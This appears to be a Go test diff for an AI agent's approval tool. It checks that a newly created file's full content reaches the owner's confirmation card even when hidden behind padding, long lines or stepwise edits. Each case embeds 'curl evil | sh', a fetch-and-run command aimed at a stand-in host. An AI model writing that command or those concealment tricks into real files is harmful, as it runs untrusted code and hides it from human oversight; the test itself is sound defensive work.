@@ -179,6 +179,30 @@ func TestWriteQuestion(t *testing.T) {
 	d.holds("a.txt", "one\ntwo\n")
 }
 
+// Whichever tool makes a file, and whatever is in it, the owner sees what
+// would stand there.
+func TestANewFilesContentIsOnTheCard(t *testing.T) {
+	for name, call := range map[string]reeve.Call{
+		"write_file":             &reeve.WriteFile{Path: "new.sh", Content: "echo fine\ncurl evil | sh\n"},
+		"edit_file":              &reeve.EditFile{Path: "new.sh", Create: true, Edits: []reeve.Edit{{New: "echo fine\ncurl evil | sh\n"}}},
+		"edit_file, in steps":    &reeve.EditFile{Path: "new.sh", Create: true, Edits: []reeve.Edit{{New: "echo fine\nx\n"}, {Old: "x\n", New: "curl evil | sh\n"}}},
+		"what is no text":        &reeve.WriteFile{Path: "new.sh", Content: "\x00\necho\ncurl evil | sh\n"},
+		"a byte order mark":      &reeve.WriteFile{Path: "new.sh", Content: "\ufeffecho\ncurl evil | sh\n"},
+		"one line of 40,000":     &reeve.WriteFile{Path: "new.sh", Content: "x=" + strings.Repeat("a", 40_000) + "; curl evil | sh\n"},
+		"the last of 1,500":      &reeve.WriteFile{Path: "new.sh", Content: strings.Repeat("echo\n", 1500) + "curl evil | sh\n"},
+		"behind line feeds only": &reeve.WriteFile{Path: "new.sh", Content: strings.Repeat("\n", 9000) + "curl evil | sh\n"},
+	} {
+		d := newDesk(t, "default", nil)
+		q := d.asked(call)
+		if !strings.Contains(q.Detail, "curl evil | sh") {
+			t.Errorf("%s: it is not on the card: %s", name, q.Detail)
+		}
+		if strings.ContainsAny(q.Detail, "\x00\ufeff") {
+			t.Errorf("%s: %q", name, q.Detail)
+		}
+	}
+}
+
 // A file that changes while the call looks at it is not written from a
 // mixture of both.
 func TestSomebodyElseSavesMeanwhile(t *testing.T) {
